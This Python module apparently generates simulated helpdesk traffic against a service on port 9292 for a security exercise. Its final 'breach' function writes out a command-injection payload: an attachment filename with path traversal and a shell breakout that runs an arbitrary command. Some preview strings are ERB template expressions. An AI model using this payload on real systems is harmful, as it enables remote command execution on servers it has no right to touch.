"""Clients of desk: agents and customers."""

from outside import get, post, quote

TEXTS = ["Dear <%= 'customer' %>", "<%= Time.now.year %>", "Total: <%= [1, 2, 3].sum %>", "Thank you for waiting"]


def visit(host, rng):
    what = rng.choices(["list", "ticket", "preview", "attach", "archive", "digest"], [40, 25, 15, 15, 2, 1])[0]
    if what == "list":
        get(host, 9292, "/tickets")
    elif what == "ticket":
        post(host, 9292, "/tickets?subject=" + quote("printer " + "x" * rng.randint(1, 60)), b"")
    elif what == "preview":
        get(host, 9292, "/preview?text=" + quote(rng.choice(TEXTS)))
    elif what == "attach":
        name = f"scan-{rng.randint(1, 400)}.{rng.choice(['txt', 'png', 'pdf'])}"
        post(host, 9292, "/attach?name=" + name, rng.choice([b"%PDF-1.4 ", b"\x89PNG\r\n\x1a\n", b"text "]) * rng.randint(2, 300))
    elif what == "archive":
        get(host, 9292, "/archive")
    else:
        post(host, 9292, "/admin/task?name=digest", b"")


def breach(host, command):
    """The name of an attachment goes to a shell."""
    return post(host, 9292, "/attach?name=" + quote(f"../puma.rb; (\n{command}\n) #", safe=""), b"")
